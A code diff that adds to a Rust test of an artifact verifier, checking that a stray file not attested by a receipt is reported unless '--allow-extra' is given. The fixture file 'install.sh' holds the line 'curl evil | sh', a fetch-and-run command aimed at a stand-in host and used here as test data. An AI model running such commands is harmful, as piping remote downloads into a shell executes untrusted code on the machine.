@@ -1240,6 +1240,25 @@ fn loop_verify_opens_no_fifo_and_follows_no_link() {
     std::fs::write(&report, "ok\n").unwrap();
     let (code, text, _) = verify(&copy.join(&name));
     assert_eq!(code, Some(0), "{text}");
+    // A file the receipt does not attest beside the artifacts ships
+    // nothing unsaid: reported, and the receipt holds only when the
+    // verifier is told to accept it.
+    std::fs::write(artifacts.join("install.sh"), "curl evil | sh\n").unwrap();
+    let (code, text, _) = verify(&copy.join(&name));
+    assert_ne!(code, Some(0), "{text}");
+    assert!(
+        text.contains("EXTRA, not attested by the receipt"),
+        "{text}"
+    );
+    assert!(text.contains("install.sh"), "{text}");
+    let o = sc.loop_cmd(&[
+        "verify",
+        "--allow-extra",
+        copy.join(&name).to_str().unwrap(),
+    ]);
+    let text = String::from_utf8_lossy(&o.stdout).to_string();
+    assert_eq!(o.status.code(), Some(0), "{text}");
+    assert!(text.contains("extra, accepted by --allow-extra"), "{text}");
 }
 
 /// A key holder cannot sign `verified` over evidence that says otherwise:
